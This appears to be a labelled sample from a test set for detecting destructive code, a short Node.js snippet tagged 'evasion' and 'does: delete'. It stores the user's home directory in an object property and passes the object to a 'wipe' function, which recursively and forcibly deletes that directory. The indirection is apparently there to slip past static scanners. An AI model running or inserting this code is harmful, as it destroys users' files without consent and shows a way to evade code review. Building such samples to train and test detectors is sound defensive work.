// evasion: the home directory assigned to an object's property, the object handed to a wiper that removes o.target
// grade: medium; does: delete
const fs = require('fs'); const os = require('os');
const cfg = {};
cfg.target = os.homedir();
function wipe(o) { fs.rmSync(o.target, { recursive: true, force: true }); }
wipe(cfg);
